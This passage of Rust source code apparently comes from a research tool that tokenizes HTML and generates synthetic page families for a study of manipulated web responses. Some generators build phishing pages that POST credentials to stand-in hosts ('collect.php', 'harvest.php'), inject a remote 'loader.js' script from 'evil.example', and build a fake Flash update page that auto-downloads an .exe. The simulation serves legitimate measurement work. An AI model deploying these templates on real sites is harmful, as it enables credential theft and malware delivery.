        assert_eq!(d.added.get(&6), Some(&1));
        assert!(d.removed.is_empty());
        assert_eq!(d.magnitude(), 1);
    }

    #[test]
    fn tag_delta_replacement() {
        let gt = [0u16, 1, 5, 5, 5, 2];
        let unk = [0u16, 1, 9, 2];
        let d = tag_delta(&gt, &unk);
        assert_eq!(d.removed.get(&5), Some(&3));
        assert_eq!(d.added.get(&9), Some(&1));
        assert_eq!(d.magnitude(), 4);
    }

    #[test]
    fn delta_multiset_distinguishes_add_from_remove() {
        let add_only = tag_delta(&[1, 2], &[1, 2, 9]);
        let rm_only = tag_delta(&[1, 2, 9], &[1, 2]);
        assert_ne!(add_only.as_multiset(), rm_only.as_multiset());
    }

    #[test]
    fn long_sequences_terminate() {
        let a: Vec<u16> = (0..500).map(|i| (i % 13) as u16).collect();
        let mut b = a.clone();
        b.insert(100, 99);
        b.remove(400);
        assert_eq!(check(&a, &b), 2);
    }
}
