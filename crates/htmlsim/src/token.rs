//! A permissive HTML tokenizer.
//!
//! This is not a spec-complete HTML5 parser — the paper's pipeline does
//! not need one. It needs a tokenizer that (a) never panics on hostile
//! bytes, (b) recovers tag names, attributes, text, titles and inline
//! scripts well enough to compute structural features, and (c) is fast
//! enough to run over millions of responses. Raw-text elements
//! (`<script>`, `<style>`) swallow their content until the matching close
//! tag; comments and doctypes are skipped.

/// One lexical token of an HTML document.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Token {
    /// An opening tag (or self-closing tag) with its attributes.
    Open {
        /// Lower-cased tag name.
        name: String,
        /// `(lowercased key, raw value)` pairs in document order.
        attrs: Vec<(String, String)>,
        /// Whether the tag was written `<x/>`.
        self_closing: bool,
    },
    /// A closing tag `</x>`.
    Close {
        /// Lower-cased tag name.
        name: String,
    },
    /// A run of character data (entity references are left undecoded —
    /// features compare like with like, so decoding buys nothing).
    Text(String),
    /// The content of a `<script>` element.
    Script(String),
}

/// Tokenize an HTML payload. Invalid markup degrades to text; the
/// tokenizer always terminates and never panics.
pub fn tokenize(html: &str) -> Vec<Token> {
    let bytes = html.as_bytes();
    let mut tokens = Vec::new();
    let mut pos = 0usize;
    let mut text_start = 0usize;

    while pos < bytes.len() {
        if bytes[pos] != b'<' {
            pos += 1;
            continue;
        }
        // Decide whether this `<` opens a real construct before flushing
        // text: a stray `<` (e.g. "a < b") must stay part of the text run.
        let is_construct = pos + 1 < bytes.len()
            && (bytes[pos + 1] == b'!'
                || bytes[pos + 1] == b'?'
                || bytes[pos + 1] == b'/'
                || valid_name_byte(bytes[pos + 1]));
        if !is_construct {
            pos += 1;
            continue;
        }
        // Flush pending text.
        if pos > text_start {
            push_text(&mut tokens, &html[text_start..pos]);
        }
        // Comment?
        if html[pos..].starts_with("<!--") {
            pos = match html[pos + 4..].find("-->") {
                Some(i) => pos + 4 + i + 3,
                None => bytes.len(),
            };
            text_start = pos;
            continue;
        }
        // Doctype / processing instruction / bogus markup.
        if pos + 1 < bytes.len() && (bytes[pos + 1] == b'!' || bytes[pos + 1] == b'?') {
            pos = match html[pos..].find('>') {
                Some(i) => pos + i + 1,
                None => bytes.len(),
            };
            text_start = pos;
            continue;
        }
        // Closing tag.
        if pos + 1 < bytes.len() && bytes[pos + 1] == b'/' {
            let end = match html[pos..].find('>') {
                Some(i) => pos + i,
                None => {
                    // Unterminated: treat rest as text.
                    push_text(&mut tokens, &html[pos..]);
                    text_start = bytes.len();
                    break;
                }
            };
            let name = html[pos + 2..end].trim().to_ascii_lowercase();
            if !name.is_empty() && name.bytes().all(valid_name_byte) {
                tokens.push(Token::Close { name });
            }
            pos = end + 1;
            text_start = pos;
            continue;
        }
        // Opening tag.
        match parse_open_tag(html, pos) {
            Some((name, attrs, self_closing, after)) => {
                let is_script = name == "script";
                let is_style = name == "style";
                tokens.push(Token::Open {
                    name: name.clone(),
                    attrs,
                    self_closing,
                });
                pos = after;
                text_start = pos;
                if self_closing {
                    continue;
                }
                if is_script || is_style {
                    // Raw-text element: scan for the close tag.
                    let close = if is_script { "</script" } else { "</style" };
                    let lower = html[pos..].to_ascii_lowercase();
                    let (content_end, resume) = match lower.find(close) {
                        Some(i) => {
                            let after_close = match html[pos + i..].find('>') {
                                Some(j) => pos + i + j + 1,
                                None => bytes.len(),
                            };
                            (pos + i, after_close)
                        }
                        None => (bytes.len(), bytes.len()),
                    };
                    if is_script {
                        let body = &html[pos..content_end];
                        if !body.trim().is_empty() {
                            tokens.push(Token::Script(body.to_string()));
                        }
                    }
                    tokens.push(Token::Close { name: name.clone() });
                    pos = resume;
                    text_start = pos;
                }
            }
            None => {
                // Unreachable given the construct guard above, but keep
                // the tokenizer total: '<' becomes text.
                text_start = pos;
                pos += 1;
            }
        }
    }
    if text_start < bytes.len() {
        push_text(&mut tokens, &html[text_start..]);
    }
    tokens
}

fn push_text(tokens: &mut Vec<Token>, text: &str) {
    let trimmed = text.trim();
    if !trimmed.is_empty() {
        tokens.push(Token::Text(trimmed.to_string()));
    }
}

fn valid_name_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'-' || b == b'_' || b == b':'
}

/// `(name, attrs, self_closing, offset_after_tag)` of a parsed tag.
type OpenTag = (String, Vec<(String, String)>, bool, usize);

/// Parse an opening tag starting at `pos` (which points at `<`).
fn parse_open_tag(html: &str, pos: usize) -> Option<OpenTag> {
    let bytes = html.as_bytes();
    let mut p = pos + 1;
    let name_start = p;
    while p < bytes.len() && valid_name_byte(bytes[p]) {
        p += 1;
    }
    if p == name_start {
        return None;
    }
    let name = html[name_start..p].to_ascii_lowercase();
    let mut attrs = Vec::new();
    let mut self_closing = false;

    loop {
        // Skip whitespace.
        while p < bytes.len() && bytes[p].is_ascii_whitespace() {
            p += 1;
        }
        if p >= bytes.len() {
            // Unterminated tag: accept what we have.
            return Some((name, attrs, self_closing, p));
        }
        match bytes[p] {
            b'>' => return Some((name, attrs, self_closing, p + 1)),
            b'/' => {
                self_closing = true;
                p += 1;
            }
            _ => {
                // Attribute name.
                let key_start = p;
                while p < bytes.len()
                    && !bytes[p].is_ascii_whitespace()
                    && bytes[p] != b'='
                    && bytes[p] != b'>'
                    && bytes[p] != b'/'
                {
                    p += 1;
                }
                let key = html[key_start..p].to_ascii_lowercase();
                // Optional value.
                while p < bytes.len() && bytes[p].is_ascii_whitespace() {
                    p += 1;
                }
                let mut value = String::new();
                if p < bytes.len() && bytes[p] == b'=' {
                    p += 1;
                    while p < bytes.len() && bytes[p].is_ascii_whitespace() {
                        p += 1;
                    }
                    if p < bytes.len() && (bytes[p] == b'"' || bytes[p] == b'\'') {
                        let quote = bytes[p];
                        p += 1;
                        let v_start = p;
                        while p < bytes.len() && bytes[p] != quote {
                            p += 1;
                        }
                        value = html[v_start..p].to_string();
                        p = (p + 1).min(bytes.len());
                    } else {
                        let v_start = p;
                        while p < bytes.len() && !bytes[p].is_ascii_whitespace() && bytes[p] != b'>'
                        {
                            p += 1;
                        }
                        value = html[v_start..p].to_string();
                    }
                }
                if !key.is_empty() {
                    attrs.push((key, value));
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn open_names(tokens: &[Token]) -> Vec<&str> {
        tokens
            .iter()
            .filter_map(|t| match t {
                Token::Open { name, .. } => Some(name.as_str()),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn basic_document() {
        let t = tokenize("<html><head><title>Hi</title></head><body><p>x</p></body></html>");
        assert_eq!(open_names(&t), vec!["html", "head", "title", "body", "p"]);
        assert!(t.contains(&Token::Text("Hi".into())));
    }

    #[test]
    fn attributes_parsed() {
        let t = tokenize(r#"<a href="http://x.example/page" class=big>link</a>"#);
        match &t[0] {
            Token::Open { name, attrs, .. } => {
                assert_eq!(name, "a");
                assert_eq!(attrs[0], ("href".into(), "http://x.example/page".into()));
                assert_eq!(attrs[1], ("class".into(), "big".into()));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn script_content_captured() {
        let t = tokenize("<script>var x = '<p>not a tag</p>';</script><p>after</p>");
        assert!(matches!(&t[1], Token::Script(s) if s.contains("not a tag")));
        assert_eq!(open_names(&t), vec!["script", "p"]);
    }

    #[test]
    fn style_content_skipped() {
        let t = tokenize("<style>p { color: red; }</style><p>x</p>");
        assert_eq!(open_names(&t), vec!["style", "p"]);
        assert!(!t
            .iter()
            .any(|x| matches!(x, Token::Text(s) if s.contains("color"))));
    }

    #[test]
    fn comments_and_doctype_skipped() {
        let t = tokenize("<!DOCTYPE html><!-- hidden <p> --><p>real</p>");
        assert_eq!(open_names(&t), vec!["p"]);
    }

    #[test]
    fn self_closing_and_void() {
        let t = tokenize(r#"<img src="a.png"/><br><input type="text">"#);
        assert_eq!(open_names(&t), vec!["img", "br", "input"]);
        assert!(matches!(
            &t[0],
            Token::Open {
                self_closing: true,
                ..
            }
        ));
    }

    #[test]
    fn unterminated_tag_no_panic() {
        let t = tokenize("<p><a href=");
        assert!(!t.is_empty());
    }

    #[test]
    fn unterminated_script_no_panic() {
        let t = tokenize("<script>while(true){}");
        assert!(t.iter().any(|x| matches!(x, Token::Script(_))));
    }

    #[test]
    fn stray_lt_is_text() {
        // `< ` (followed by whitespace) is text; `<d` is a legitimate tag
        // open, matching browser tokenizer behaviour.
        let t = tokenize("a < b and c<d x");
        assert_eq!(t[0], Token::Text("a < b and c".into()));
        assert!(matches!(&t[1], Token::Open { name, .. } if name == "d"));
    }

    #[test]
    fn hostile_bytes_no_panic() {
        let junk = "<<<>>></////><a <b> =\"' <script><!--";
        let _ = tokenize(junk);
        let _ = tokenize(&junk.repeat(100));
    }

    #[test]
    fn unquoted_attr_value() {
        let t = tokenize("<form method=post action=/login.php>");
        match &t[0] {
            Token::Open { attrs, .. } => {
                assert_eq!(attrs[0], ("method".into(), "post".into()));
                assert_eq!(attrs[1], ("action".into(), "/login.php".into()));
            }
            _ => panic!(),
        }
    }
}
