//! Deterministic HTML page generators.
//!
//! Every page family observed by the study — from legitimate category
//! sites through censorship landing pages to PayPal phishing kits — has a
//! generator here. Pages are deterministic functions of their parameters
//! plus a seed-driven noise component, so that (a) experiments reproduce
//! bit-for-bit and (b) the clustering stage faces realistic intra-family
//! variation (dynamic content, rotating links) rather than byte-identical
//! templates it could trivially collapse.

use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};

/// Context for rendering one page.
#[derive(Debug, Clone)]
pub struct PageCtx {
    /// The domain the client believes it is visiting.
    pub domain: String,
    /// Deterministic noise seed (vary per host to get intra-family noise).
    pub seed: u64,
}

impl PageCtx {
    /// A context for rendering `domain` with noise seed `seed`.
    pub fn new(domain: &str, seed: u64) -> Self {
        PageCtx {
            domain: domain.to_string(),
            seed,
        }
    }

    fn rng(&self) -> SmallRng {
        SmallRng::seed_from_u64(self.seed ^ 0x9e3779b97f4a7c15)
    }
}

/// Site categories for legitimate content — mirrors the paper's domain
/// taxonomy (Section 3.2).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SiteCategory {
    /// Advertisement networks.
    Ads,
    /// Adult content portals.
    Adult,
    /// Alexa Top sites (news/search/social).
    Alexa,
    /// Antivirus vendors and their update servers.
    Antivirus,
    /// Banking and payment sites.
    Banking,
    /// Dating sites.
    Dating,
    /// File-sharing / torrent indexes.
    Filesharing,
    /// Online betting.
    Gambling,
    /// Hosts of domains on malware blacklists.
    Malware,
    /// User-tracking / fingerprinting services.
    Tracking,
    /// Everything else in the catalog.
    Misc,
    /// The measurement team's own domain.
    GroundTruth,
}

impl SiteCategory {
    fn theme(self) -> (&'static str, &'static str) {
        match self {
            SiteCategory::Ads => ("Ad Network Console", "campaign"),
            SiteCategory::Adult => ("Premium Video Portal", "video"),
            SiteCategory::Alexa => ("Front Page", "story"),
            SiteCategory::Antivirus => ("Security Updates", "signature"),
            SiteCategory::Banking => ("Online Banking", "account"),
            SiteCategory::Dating => ("Find a Match", "profile"),
            SiteCategory::Filesharing => ("Torrent Index", "magnet"),
            SiteCategory::Gambling => ("Live Betting Odds", "market"),
            SiteCategory::Malware => ("Under Construction", "binary"),
            SiteCategory::Tracking => ("Device Analytics", "beacon"),
            SiteCategory::Misc => ("Information Hub", "article"),
            SiteCategory::GroundTruth => ("Measurement Ground Truth", "probe"),
        }
    }
}

fn noise_token(rng: &mut SmallRng) -> String {
    const ALPHA: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
    (0..8)
        .map(|_| ALPHA[rng.gen_range(0..ALPHA.len())] as char)
        .collect()
}

/// The legitimate representation of a category site, with mild dynamic
/// variation (item counts, rotating tokens) per seed.
pub fn legit_site(category: SiteCategory, ctx: &PageCtx) -> String {
    let mut rng = ctx.rng();
    let (title, item) = category.theme();
    let items = 6 + (rng.gen_range(0..4) as usize);
    let mut body = String::new();
    for i in 0..items {
        let tok = noise_token(&mut rng);
        body.push_str(&format!(
            "<div class=\"{item}\"><h3>{item} {i}</h3><p>fresh {item} content {tok}</p>\
             <a href=\"/{item}/{i}\">more</a></div>\n"
        ));
    }
    let tracking = format!(
        "<script>window._site='{}';(function(){{var q='{}';}})();</script>",
        ctx.domain,
        noise_token(&mut rng)
    );
    let form = if matches!(category, SiteCategory::Banking | SiteCategory::Dating) {
        format!(
            "<form method=\"post\" action=\"https://{}/login\">\
             <input type=\"text\" name=\"user\"><input type=\"password\" name=\"pass\">\
             <button>Sign in</button></form>",
            ctx.domain
        )
    } else {
        String::new()
    };
    format!(
        "<html><head><title>{title} — {domain}</title>\
         <link rel=\"stylesheet\" href=\"https://{domain}/static/site.css\">{tracking}</head>\
         <body><header><img src=\"https://{domain}/static/logo.png\"><nav>\
         <a href=\"/\">home</a><a href=\"/about\">about</a><a href=\"/contact\">contact</a></nav></header>\
         <main>{form}{body}</main>\
         <footer><a href=\"https://{domain}/terms\">terms</a></footer></body></html>",
        title = title,
        domain = ctx.domain,
        tracking = tracking,
        form = form,
        body = body,
    )
}

/// An HTTP error page (404/500/502 and friends), in one of a few server
/// idioms so the HTTP-Error cluster is itself heterogeneous.
pub fn http_error(code: u16, ctx: &PageCtx) -> String {
    let mut rng = ctx.rng();
    let reason = match code {
        400 => "Bad Request",
        403 => "Forbidden",
        404 => "Not Found",
        500 => "Internal Server Error",
        502 => "Bad Gateway",
        503 => "Service Unavailable",
        _ => "Error",
    };
    match rng.gen_range(0..3) {
        0 => format!(
            "<html><head><title>{code} {reason}</title></head><body>\
             <h1>{reason}</h1><p>The requested URL was not found on this server.</p>\
             <hr><address>Apache Server at {} Port 80</address></body></html>",
            ctx.domain
        ),
        1 => format!(
            "<html><head><title>{code} {reason}</title></head><body bgcolor=\"white\">\
             <center><h1>{code} {reason}</h1></center><hr><center>nginx</center></body></html>"
        ),
        _ => format!(
            "<html><head><title>Error {code}</title></head><body><h2>HTTP Error {code}: {reason}</h2>\
             <p>Please contact the administrator.</p></body></html>"
        ),
    }
}

/// Router manufacturers whose login pages dominate the Login category
/// ("two large distributors of networking devices", Sec. 4.2).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum RouterVendor {
    /// Stand-in for the first major CPE manufacturer.
    ZyRouter,
    /// Stand-in for the second major CPE manufacturer.
    TpConnect,
    /// Long tail of other vendors.
    Generic,
}

/// A router / modem administration login page.
pub fn router_login(vendor: RouterVendor, ctx: &PageCtx) -> String {
    let (brand, model_prefix) = match vendor {
        RouterVendor::ZyRouter => ("ZyRouter", "ZR"),
        RouterVendor::TpConnect => ("TpConnect", "TC"),
        RouterVendor::Generic => ("BroadbandGateway", "BG"),
    };
    let mut rng = ctx.rng();
    let model = format!("{model_prefix}-{}", 600 + rng.gen_range(0..40) * 10);
    format!(
        "<html><head><title>{brand} {model} Web Configuration</title></head>\
         <body><center><img src=\"/images/{brand_lower}_logo.gif\">\
         <h2>{brand} {model} router login</h2>\
         <form method=\"post\" action=\"/cgi-bin/login\">\
         <table><tr><td>Username:</td><td><input type=\"text\" name=\"user\"></td></tr>\
         <tr><td>Password:</td><td><input type=\"password\" name=\"pass\"></td></tr></table>\
         <input type=\"submit\" value=\"Login\"></form></center></body></html>",
        brand = brand,
        brand_lower = brand.to_ascii_lowercase(),
        model = model,
    )
}

/// An IP-camera web login (the "specific brand of IP-based cameras",
/// Sec. 4.1 — 574 self-IP responders).
pub fn camera_login(ctx: &PageCtx) -> String {
    let mut rng = ctx.rng();
    format!(
        "<html><head><title>NetCam Viewer</title>\
         <script src=\"/js/activex_loader.js\"></script></head>\
         <body><h3>NetCam live view login</h3><p>Network Camera {serial}</p>\
         <form action=\"/login.cgi\"><input name=\"id\"><input name=\"pw\" type=\"password\">\
         <input type=\"submit\"></form></body></html>",
        serial = rng.gen_range(10_000..99_999)
    )
}

/// A captive portal (ISP / hotel / educational network).
pub fn captive_portal(operator: &str, ctx: &PageCtx) -> String {
    format!(
        "<html><head><title>{operator} — Network Login</title>\
         <meta http-equiv=\"refresh\" content=\"30\"></head>\
         <body><div class=\"portal\"><img src=\"/portal/{operator_lower}.png\">\
         <h1>Welcome to the {operator} network</h1>\
         <p>You must authenticate before accessing {domain}.</p>\
         <form method=\"post\" action=\"/portal/auth\">\
         <input name=\"voucher\"><button>Connect</button></form>\
         <a href=\"/portal/terms\">Terms of use</a></div></body></html>",
        operator = operator,
        operator_lower = operator.to_ascii_lowercase().replace(' ', "-"),
        domain = ctx.domain,
    )
}

/// A web-mail login page.
pub fn webmail_login(ctx: &PageCtx) -> String {
    format!(
        "<html><head><title>Webmail — Sign in</title></head><body>\
         <div id=\"mailbox\"><h2>Webmail for {domain}</h2>\
         <form method=\"post\" action=\"/mail/auth\"><input name=\"address\">\
         <input name=\"password\" type=\"password\"><button>Open mailbox</button></form>\
         </div></body></html>",
        domain = ctx.domain
    )
}

/// A domain-parking / reseller landing page with monetized links.
pub fn parking_page(provider: &str, ctx: &PageCtx) -> String {
    let mut rng = ctx.rng();
    let mut related = String::new();
    for _ in 0..8 {
        let kw = noise_token(&mut rng);
        related.push_str(&format!(
            "<li><a href=\"http://search.{provider}.example/feed?kw={kw}\">Sponsored: {kw}</a></li>"
        ));
    }
    format!(
        "<html><head><title>{domain} — domain for sale</title>\
         <script src=\"http://cdn.{provider}.example/park.js\"></script></head>\
         <body><h1>{domain}</h1><p>This domain is parked free, courtesy of {provider}.</p>\
         <p><b>Buy this domain.</b></p><ul class=\"related\">{related}</ul>\
         <small>The domain owner maintains no relationship with advertisers.</small></body></html>",
        domain = ctx.domain,
        provider = provider,
        related = related,
    )
}

/// A search page. `mimicry` adds the ad banners underneath the search bar
/// that Sec. 4.3 reports for fake Google front-ends.
pub fn search_page(engine: &str, mimicry: bool, ctx: &PageCtx) -> String {
    let ads = if mimicry {
        "<div class=\"ads\"><a href=\"http://ads.inject.example/click?1\">\
         <img src=\"http://ads.inject.example/banner1.gif\"></a>\
         <a href=\"http://ads.inject.example/click?2\">\
         <img src=\"http://ads.inject.example/banner2.gif\"></a></div>"
    } else {
        ""
    };
    format!(
        "<html><head><title>{engine} Search</title></head><body>\
         <center><img src=\"/logo_{engine_lower}.png\">\
         <form action=\"/search\"><input type=\"text\" name=\"q\" size=\"55\">\
         <input type=\"submit\" value=\"Search\"></form>{ads}</center>\
         <p class=\"nx\">No results for {domain}. Did you mean something else?</p></body></html>",
        engine = engine,
        engine_lower = engine.to_ascii_lowercase(),
        ads = ads,
        domain = ctx.domain,
    )
}

/// A censorship landing page for `country`. Carries the exact text
/// fragment family the labeling step keys on (Sec. 4.2: "blocked by the
/// order of [...] court/authority").
pub fn censorship_landing(country: &str, authority: &str, ctx: &PageCtx) -> String {
    format!(
        "<html><head><title>Access Blocked</title></head>\
         <body><div class=\"gov-banner\"><img src=\"/seal_{cc}.png\"></div>\
         <h1>Access to this website has been blocked</h1>\
         <p>Access to {domain} has been blocked by the order of the {authority} of {country}.</p>\
         <p>Reference: statute {cc}-5651. If you believe this is in error, contact your provider.</p>\
         </body></html>",
        domain = ctx.domain,
        country = country,
        authority = authority,
        cc = country.to_ascii_lowercase().replace(' ', "_"),
    )
}

/// An (ISP / parental-control / AV) blocking page — distinct from state
/// censorship per the paper's labeling.
pub fn blocking_page(operator: &str, reason: &str, ctx: &PageCtx) -> String {
    format!(
        "<html><head><title>Website blocked — {operator}</title></head>\
         <body><h1>Website blocked</h1>\
         <p>{operator} has blocked {domain}: {reason}.</p>\
         <p>This protection is part of your security subscription.</p>\
         <a href=\"http://{operator_lower}.example/unblock?d={domain}\">Request review</a></body></html>",
        operator = operator,
        operator_lower = operator.to_ascii_lowercase().replace(' ', "-"),
        domain = ctx.domain,
        reason = reason,
    )
}

/// The PayPal-style phishing kit of Sec. 4.3: the body consists of 46
/// `<img>` tags reproducing the target site plus an HTML form POSTing
/// credentials to a PHP endpoint.
pub fn phishing_kit_images(target: &str, ctx: &PageCtx) -> String {
    let mut rng = ctx.rng();
    let host = noise_token(&mut rng);
    let mut imgs = String::new();
    for i in 0..46 {
        imgs.push_str(&format!(
            "<img src=\"/slices/{target}_{i:02}.png\" style=\"display:block\">"
        ));
    }
    format!(
        "<html><head><title>{target_title} — Log In</title></head><body style=\"margin:0\">\
         {imgs}<form method=\"POST\" action=\"http://{host}.example/gate/collect.php\">\
         <input name=\"email\" style=\"position:absolute;top:220px;left:340px\">\
         <input name=\"password\" type=\"password\" style=\"position:absolute;top:260px;left:340px\">\
         <input type=\"submit\" value=\"Log In\" style=\"position:absolute;top:300px;left:340px\">\
         </form></body></html>",
        target_title = capitalize(target),
        imgs = imgs,
        host = host,
    )
}

/// A bank-phishing clone: structurally close to the legitimate banking
/// template but with the credential form re-targeted.
pub fn phishing_bank_clone(ctx: &PageCtx) -> String {
    let legit = legit_site(SiteCategory::Banking, ctx);
    legit.replace(
        &format!("https://{}/login", ctx.domain),
        "http://203.0.113.66/cgi/harvest.php",
    )
}

/// Inject an ad into a legitimate page (Sec. 4.3, "inject ad banners
/// directly into the HTML content").
pub fn inject_ad(legit_html: &str, ad_host: &str) -> String {
    let banner = format!(
        "<div class=\"sponsor\"><a href=\"http://{ad_host}/c?x=1\">\
         <img src=\"http://{ad_host}/b.gif\" width=\"728\" height=\"90\"></a></div>"
    );
    match legit_html.find("<main>") {
        Some(i) => {
            let mut out = String::with_capacity(legit_html.len() + banner.len());
            out.push_str(&legit_html[..i + 6]);
            out.push_str(&banner);
            out.push_str(&legit_html[i + 6..]);
            out
        }
        None => format!("{banner}{legit_html}"),
    }
}

/// Inject suspicious JavaScript into a legitimate page (the other two ad
/// IPs of Sec. 4.3 "serve suspicious JavaScript code").
pub fn inject_script(legit_html: &str, script_host: &str) -> String {
    let tag = format!("<script src=\"http://{script_host}/loader.js\"></script>");
    match legit_html.rfind("</body>") {
        Some(i) => {
            let mut out = String::with_capacity(legit_html.len() + tag.len());
            out.push_str(&legit_html[..i]);
            out.push_str(&tag);
            out.push_str(&legit_html[i..]);
            out
        }
        None => format!("{legit_html}{tag}"),
    }
}

/// Replace ad images with empty placeholders (the 7 ad-*blocking* IPs).
pub fn blank_ads(legit_html: &str) -> String {
    // Any image under an ads path becomes a transparent placeholder.
    let mut out = legit_html.to_string();
    for marker in ["ads.", "/ad/", "banner"] {
        // Replace src values containing the marker with an empty pixel.
        while let Some(start) = out.find(&format!("src=\"http://{marker}")) {
            let value_start = start + 5;
            let Some(rel_end) = out[value_start..].find('"') else {
                break;
            };
            out.replace_range(value_start..value_start + rel_end, "/blank.gif");
        }
    }
    out.replace(
        "<img src=\"http://ads.inject.example/banner1.gif\">",
        "<img src=\"/blank.gif\">",
    )
}

/// The fake Flash/Java update page of Sec. 4.3 whose download is a
/// malware dropper.
pub fn fake_update_page(product: &str, ctx: &PageCtx) -> String {
    let mut rng = ctx.rng();
    let version = format!(
        "{}.{}.{}",
        rng.gen_range(11..17),
        rng.gen_range(0..9),
        rng.gen_range(100..900)
    );
    format!(
        "<html><head><title>{product} Update Required</title>\
         <script>setTimeout(function(){{document.getElementById('dl').click();}},3000);</script></head>\
         <body><img src=\"/img/{product_lower}_logo.png\">\
         <h1>Your {product} Player is out of date</h1>\
         <p>Version {version} is required to view this content on {domain}.</p>\
         <a id=\"dl\" href=\"/download/{product_lower}_update_setup.exe\">\
         <button>Install update</button></a></body></html>",
        product = product,
        product_lower = product.to_ascii_lowercase(),
        version = version,
        domain = ctx.domain,
    )
}

fn capitalize(s: &str) -> String {
    let mut c = s.chars();
    match c.next() {
        Some(f) => f.to_uppercase().collect::<String>() + c.as_str(),
        None => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::distance::{page_distance, FeatureWeights};
    use crate::page::PageFeatures;
    use crate::tagid::TagInterner;

    fn ctx(domain: &str, seed: u64) -> PageCtx {
        PageCtx::new(domain, seed)
    }

    #[test]
    fn generators_are_deterministic() {
        let a = legit_site(SiteCategory::Banking, &ctx("bank.example", 7));
        let b = legit_site(SiteCategory::Banking, &ctx("bank.example", 7));
        assert_eq!(a, b);
        let c = legit_site(SiteCategory::Banking, &ctx("bank.example", 8));
        assert_ne!(a, c, "different seeds must vary the page");
    }

    #[test]
    fn same_family_closer_than_cross_family() {
        let mut i = TagInterner::new();
        let w = FeatureWeights::default();
        let bank1 = PageFeatures::extract(
            &legit_site(SiteCategory::Banking, &ctx("bank.example", 1)),
            &mut i,
        );
        let bank2 = PageFeatures::extract(
            &legit_site(SiteCategory::Banking, &ctx("bank.example", 2)),
            &mut i,
        );
        let err = PageFeatures::extract(&http_error(404, &ctx("bank.example", 1)), &mut i);
        let within = page_distance(&bank1, &bank2, &w);
        let across = page_distance(&bank1, &err, &w);
        assert!(within < across, "within={within} across={across}");
        assert!(within < 0.3, "within-family distance too large: {within}");
        assert!(across > 0.5, "cross-family distance too small: {across}");
    }

    #[test]
    fn phishing_kit_has_46_images_and_post_form() {
        let mut i = TagInterner::new();
        let html = phishing_kit_images("paypal", &ctx("paypal.example", 3));
        let f = PageFeatures::extract(&html, &mut i);
        assert_eq!(f.count_of("img", &i), 46);
        assert_eq!(f.count_of("form", &i), 1);
        assert!(html.contains("collect.php"));
        assert!(html.to_lowercase().contains("method=\"post\""));
    }

    #[test]
    fn censorship_page_carries_legal_marker() {
        let html = censorship_landing("Turkey", "5651 authority", &ctx("youporn.example", 1));
        assert!(html.contains("blocked by the order of"));
    }

    #[test]
    fn injection_preserves_most_structure() {
        let mut i = TagInterner::new();
        let w = FeatureWeights::default();
        let base = legit_site(SiteCategory::Alexa, &ctx("news.example", 5));
        let injected = inject_ad(&base, "ads.rogue.example");
        let a = PageFeatures::extract(&base, &mut i);
        let b = PageFeatures::extract(&injected, &mut i);
        let d = page_distance(&a, &b, &w);
        assert!(d > 0.0 && d < 0.2, "injected distance {d}");
        assert!(injected.contains("ads.rogue.example"));
    }

    #[test]
    fn script_injection_appends_before_body_close() {
        let base = legit_site(SiteCategory::Alexa, &ctx("news.example", 5));
        let out = inject_script(&base, "evil.example");
        assert!(out.contains("evil.example/loader.js"));
        let pos_script = out.rfind("loader.js").unwrap();
        let pos_body = out.rfind("</body>").unwrap();
        assert!(pos_script < pos_body);
    }

    #[test]
    fn router_vendors_differ() {
        let a = router_login(RouterVendor::ZyRouter, &ctx("192.168.1.1", 1));
        let b = router_login(RouterVendor::TpConnect, &ctx("192.168.1.1", 1));
        assert!(a.contains("ZyRouter"));
        assert!(b.contains("TpConnect"));
        assert_ne!(a, b);
    }

    #[test]
    fn fake_update_page_offers_executable() {
        let html = fake_update_page("Flash", &ctx("adobe.example", 9));
        assert!(html.contains("update_setup.exe"));
        assert!(html.contains("out of date"));
    }

    #[test]
    fn error_pages_vary_by_idiom() {
        let variants: std::collections::HashSet<String> = (0..12)
            .map(|s| http_error(404, &ctx("x.example", s)))
            .collect();
        assert!(variants.len() >= 2, "want several server idioms");
    }

    #[test]
    fn search_mimicry_embeds_ads() {
        let real = search_page("Finder", false, &ctx("nx.example", 1));
        let fake = search_page("Finder", true, &ctx("nx.example", 1));
        assert!(!real.contains("ads.inject.example"));
        assert!(fake.contains("ads.inject.example"));
    }
}
