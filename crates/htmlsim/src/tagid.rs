//! Tag-name interning.
//!
//! The paper normalizes each HTML tag to "a 2-byte-long identifier"
//! before computing the tag-sequence edit distance (Section 3.6). We do
//! the same: a [`TagInterner`] maps lower-cased tag names to dense `u16`
//! identifiers. Well-known HTML tags get stable identifiers; unknown
//! names are interned on first sight.

use std::collections::HashMap;

/// Well-known HTML tag names, in stable identifier order. Keeping the
/// common tags stable means feature vectors computed by different
/// interner instances are comparable for ordinary pages.
pub const KNOWN_TAGS: &[&str] = &[
    "html",
    "head",
    "title",
    "meta",
    "link",
    "style",
    "script",
    "body",
    "div",
    "span",
    "p",
    "a",
    "img",
    "br",
    "hr",
    "ul",
    "ol",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "td",
    "th",
    "form",
    "input",
    "button",
    "select",
    "option",
    "textarea",
    "label",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "iframe",
    "frame",
    "frameset",
    "noscript",
    "b",
    "i",
    "u",
    "em",
    "strong",
    "small",
    "center",
    "font",
    "pre",
    "code",
    "blockquote",
    "nav",
    "header",
    "footer",
    "section",
    "article",
    "aside",
    "main",
    "figure",
    "figcaption",
    "video",
    "audio",
    "source",
    "canvas",
    "svg",
    "object",
    "embed",
    "param",
    "base",
    "area",
    "map",
    "col",
    "colgroup",
    "caption",
    "fieldset",
    "legend",
    "dl",
    "dt",
    "dd",
    "s",
    "strike",
    "tt",
    "big",
    "sub",
    "sup",
    "wbr",
];

/// Maps tag names to dense `u16` identifiers.
#[derive(Debug, Clone)]
pub struct TagInterner {
    by_name: HashMap<String, u16>,
    names: Vec<String>,
}

impl Default for TagInterner {
    fn default() -> Self {
        Self::new()
    }
}

impl TagInterner {
